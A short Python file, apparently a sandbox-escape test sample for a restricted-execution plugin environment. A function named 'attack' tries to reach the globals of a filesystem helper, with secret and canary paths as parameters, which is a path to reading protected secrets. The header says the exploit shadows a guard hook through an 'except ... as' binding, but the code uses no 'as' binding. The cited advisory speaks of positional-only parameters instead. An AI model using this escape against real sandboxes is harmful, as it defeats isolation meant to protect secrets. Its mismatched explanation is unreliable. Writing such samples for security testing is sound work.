# mypy: ignore-errors
# Technique: shadow the runtime's format guard hook by binding its name with `except ... as`,
# a binding form whose target is not a Name node, so `.format` calls in that scope reach the
# plugin's own object instead of the guard.
# Advisory: CVE-2026-55830 / GHSA-ffg3-p8fm-mjx2 (RestrictedPython: a binding form the
# leading-underscore name check skipped (positional-only parameters) shadowed guard hooks)
from suaveplan import fs


class Hook(Exception):
    def __call__(self, obj, attr):
        return obj


def attack(secret_path, canary_path):
    try:
        raise Hook()
    except Hook:
        return f"{fs.read_text.__globals__}"
